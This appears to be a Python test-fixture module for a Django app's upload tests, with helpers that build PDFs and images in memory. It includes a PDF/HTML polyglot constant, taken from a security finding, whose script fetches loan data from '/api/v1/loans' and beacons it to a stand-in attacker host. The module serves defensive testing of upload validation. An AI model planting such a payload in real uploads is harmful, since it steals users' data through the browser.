"""Real files for upload tests, made in memory (a PDF with pypdf, pictures
with Pillow), and the polyglot from the security finding."""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile

from PIL import Image
from pypdf import PdfWriter

# The finding: PDF magic bytes, then a web page with a script.
POLYGLOT = (
    b"%PDF-1.4\n"
    b"<html><body><script>fetch('/api/v1/loans').then(r => r.text())"
    b".then(t => navigator.sendBeacon('https://attacker.example/', t))"
    b"</script></body></html>\n"
)


def pdf_bytes(*, pages: int = 1, user_password: str | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (8, 8)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "steelblue").save(out, fmt)
    return out.getvalue()


def upload(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)
